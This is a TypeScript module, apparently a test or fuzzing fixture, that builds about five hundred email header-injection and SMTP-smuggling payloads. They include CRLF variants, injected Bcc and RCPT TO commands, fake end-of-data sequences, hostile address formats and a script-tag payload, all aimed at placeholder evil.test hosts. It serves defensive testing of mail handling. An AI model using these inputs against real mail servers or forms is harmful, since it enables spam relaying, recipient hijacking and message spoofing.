/** Line and message endings that mail servers have accepted. */
const ENDS = [
  '\r\n',
  '\n',
  '\r',
  '\r\r\n',
  '\n\r',
  '\0',
  '\u0085',
  '\u2028',
  '\u2029',
  '\v',
  '\f',
  '%0d%0a',
  '\\r\\n',
  '&#13;&#10;',
  '嘊嘍',
  '=0D=0A',
  '\r\n ',
];

const ORDERS = [
  'Bcc: eve@evil.test',
  'RCPT TO:<eve@evil.test>',
  '.\r\nMAIL FROM:<eve@evil.test>\r\nRCPT TO:<eve@evil.test>\r\nDATA\r\nSubject: smuggled\r\n\r\nx',
  'Content-Type: text/html\r\n\r\n<script>alert(1)</script>',
  'To: eve@evil.test',
  'Reply-To: eve@evil.test',
  'X-Evil: 1',
  '.',
  'QUIT',
  'List-Unsubscribe: <https://evil.test/>',
];

const ADDRESSES = [
  '"a@evil.test"@home.test',
  'ada@home.test,eve@evil.test',
  'ada@home.test;eve@evil.test',
  'ada@home.test eve@evil.test',
  'ada@home.test> RCPT TO:<eve@evil.test',
  'ada@home.test>\r\nRCPT TO:<eve@evil.test',
  'Ada <eve@evil.test>',
  '<eve@evil.test>',
  'group:eve@evil.test;',
  '@evil.test:ada@home.test',
  'ada%evil.test@home.test',
  'evil.test!ada@home.test',
  'ada@home.test\0@evil.test',
  '(eve@evil.test)ada@home.test',
  'ada@[127.0.0.1]',
  '=?utf-8?q?eve=40evil.test=2C?=@home.test',
  'ada@home.test?bcc=eve@evil.test',
  '"\r\nBcc: eve@evil.test\r\n"@home.test',
  'ada@home.test NOTIFY=SUCCESS ORCPT=rfc822;eve@evil.test',
  '𝒶da@home.test',
];

/** Returns five hundred texts that would become commands, fields, recipients or message endings if lines are split. */
export function mailPayloads(): string[] {
  const texts = [
    ...ENDS.flatMap((end) =>
      ORDERS.flatMap((order) => [`Ada${end}${order}`, `${end}${order}${end}`, `${end}${end}${order}`]),
    ),
    ...ENDS.map((end) => `${end}.${end}`),
    ...ADDRESSES,
    ...ADDRESSES.map((address) => `Ada" <${address}>, "`),
    '=?utf-8?Q?=0D=0ABcc:_eve@evil.test?=',
    '=?utf-8?B?DQpCY2M6IGV2ZUBldmlsLnRlc3Q=?=',
    'x'.repeat(5_000),
    `${'x'.repeat(997)}\r\n.\r\n`,
  ];
  return [...new Set(texts)];
}

export const hostileAddresses: readonly string[] = ADDRESSES;

/** Byte sequences that some servers wrongly took for the end of a message. More commands would follow them. */
export const SMUGGLED_ENDS = [
  '\n.\n',
  '\n.\r\n',
  '\r\n.\n',
  '\r.\r',
  '\r\n.\r',
  '\r.\r\n',
  '\n.\r',
  '\r\n\0.\r\n',
  '\r\n.\0\r\n',
  '\r\r\n.\r\r\n',
];
